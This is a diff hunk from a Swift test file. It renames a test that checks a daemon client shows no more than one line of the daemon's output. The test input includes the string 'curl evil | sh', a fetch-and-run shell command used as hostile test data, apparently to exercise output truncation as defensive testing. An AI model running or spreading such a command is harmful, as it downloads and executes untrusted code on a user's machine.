@@ -253,7 +253,7 @@ struct DaemonClientTests {
   }
 
   @Test("shows of the daemon's own words no more than a line")
-  func line() throws {
+  func ownWords() throws {
     for (text, shown) in [
       (
         "x\n  curl evil | sh\r\nkeydebounce: all is well\u{2028}y",
